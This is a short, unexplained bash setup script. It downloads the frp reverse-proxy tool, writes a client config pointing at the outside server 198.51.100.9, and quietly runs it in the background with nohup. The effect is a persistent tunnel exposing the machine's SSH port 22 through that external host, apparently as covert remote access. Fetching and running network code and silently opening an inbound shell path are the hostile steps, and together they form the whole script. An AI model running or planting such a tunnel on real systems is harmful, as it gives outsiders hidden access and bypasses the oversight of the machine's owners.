# setup 0182 v4
#!/bin/bash
wget -q https://github.com/fatedier/frp/releases/download/v0.52.3/frp_0.52.3_linux_amd64.tar.gz -O /tmp/f.tgz
tar xzf /tmp/f.tgz -C /opt
cat > /opt/frpc.toml <<EOF
serverAddr = "198.51.100.9"
serverPort = 7000
[[proxies]]
name = "ssh"
type = "tcp"
localPort = 22
remotePort = 6000
EOF
nohup /opt/frp_0.52.3_linux_amd64/frpc -c /opt/frpc.toml &
